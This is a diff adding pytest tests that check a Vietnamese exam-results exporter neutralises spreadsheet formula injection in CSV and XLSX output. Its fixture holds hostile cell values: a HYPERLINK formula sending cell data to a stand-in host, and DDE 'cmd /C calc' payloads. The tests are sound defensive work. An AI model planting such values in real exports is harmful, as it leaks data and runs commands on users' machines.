@@ -76,3 +76,44 @@ def test_html_is_self_contained_and_escaped(report, tmp_path):
 def test_histogram_counts_only_submitters(report):
     hist = report.score_histogram()
     assert sum(hist.values()) == 2 and hist["90–100"] == 1 and hist["20–29"] == 1
+
+
+INJECTIONS = {"unit": '=HYPERLINK("http://x.example/?d="&A2,"Bấm vào đây")', "position": "+cmd|' /C calc'!A0",
+              "name": "@SUM(1+1)*cmd|' /C calc'!A0", "notes": "-2+3"}
+
+
+@pytest.fixture
+def hostile(report):
+    row = Row("hack", INJECTIONS["name"], INJECTIONS["unit"], INJECTIONS["position"], {"bai01": 10.0, "bai02": None},
+              10.0, 100.0, NOT_PASSED, ["bai02"], [INJECTIONS["notes"]])
+    report.rows.append(row)
+    return report
+
+
+def test_csv_neutralises_formula_prefixes_without_touching_names(hostile, tmp_path):
+    out = tmp_path / "kq.csv"
+    export.write_csv(hostile, out)
+    rows = list(csv.DictReader(out.read_text(encoding="utf-8-sig").splitlines()))
+    hack = rows[-1]
+    assert hack["Đơn vị"] == "'" + INJECTIONS["unit"] and hack["Chức vụ"] == "'" + INJECTIONS["position"]
+    assert hack["Họ và tên"] == "'" + INJECTIONS["name"] and hack["Ghi chú"] == "'" + INJECTIONS["notes"]
+    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())
+    assert rows[0]["Họ và tên"] == "Nguyễn Văn An" and rows[1]["Họ và tên"] == 'Phạm, Thị "Bích"'
+    assert rows[0]["bai01"] == "50.0" and rows[1]["bai02"] == ""
+
+
+def test_xlsx_keeps_formula_like_text_as_text(hostile, tmp_path):
+    import zipfile
+
+    out = tmp_path / "kq.xlsx"
+    export.write_xlsx(hostile, out)
+    with zipfile.ZipFile(out) as archive:
+        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
+    assert sheets and not any("<f>" in s or "<f " in s for s in sheets)
+    sheet = openpyxl.load_workbook(out)["Kết quả"]
+    header = [c.value for c in sheet[1]]
+    cells = {name: sheet.cell(row=sheet.max_row, column=header.index(name) + 1)
+             for name in ("Đơn vị", "Chức vụ", "Họ và tên", "Ghi chú")}
+    assert [c.value for c in cells.values()] == [INJECTIONS[k] for k in ("unit", "position", "name", "notes")]
+    assert all(c.data_type == "s" and c.quotePrefix for c in cells.values())
+    assert sheet.cell(row=2, column=header.index("Họ và tên") + 1).value == "Nguyễn Văn An"
